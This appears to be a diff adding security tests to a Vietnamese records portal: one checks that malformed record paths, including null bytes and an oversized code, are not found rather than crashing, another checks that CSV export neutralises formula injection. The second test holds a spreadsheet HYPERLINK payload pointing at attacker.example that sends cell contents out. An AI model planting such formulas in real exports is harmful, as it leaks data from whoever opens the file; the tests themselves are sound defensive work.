@@ -158,3 +158,30 @@ def test_the_qr_codes_page_shows_the_record_masked_and_a_copy_of_another_record_
     assert upload.status_code == 200
     assert "KHÔNG HỢP LỆ" in upload.text and "Kết luận: HỢP LỆ" not in upload.text  # one verdict, everywhere
     assert f"không phải bản sao của hồ sơ {one.result_code}" in upload.text
+
+
+@pytest.mark.parametrize("path", ["/xac-minh/.x", "/xac-minh/a%00b", "/v1/records/.x", "/v1/records/a%00b",
+                                  "/xac-minh/" + "9" * 5000])
+def test_a_code_no_record_could_have_is_not_found_not_a_server_error(portal: TestClient, path: str) -> None:
+    answer = portal.get(path)
+    assert answer.status_code in (401, 404), (answer.status_code, answer.text[:200])
+    sign_in(portal, "tiep.nhan")  # and signed in, past the sign-in check
+    answer = portal.get(path, params={"purpose": "Kiểm thử"})
+    assert answer.status_code in (400, 404), (answer.status_code, answer.text[:200])
+
+
+def test_a_value_that_would_be_a_spreadsheet_formula_is_exported_as_text(portal: TestClient,
+                                                                         services: Services) -> None:
+    import csv
+    import io
+
+    from service.corrections import Changes, correct_record
+
+    code = next(m.result_code for m in services.archive.manifests())
+    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
+    correct_record(services, Actor("ra.soat", "reviewer", "Rà Soát"), code, Changes(fields={"issuer": formula}),
+                   "Kiểm thử xuất danh mục")
+    sign_in(portal, "luu.tru")
+    rows = list(csv.reader(io.StringIO(portal.get("/luu-tru/danh-muc.csv").text.lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + formula in cells and formula not in cells
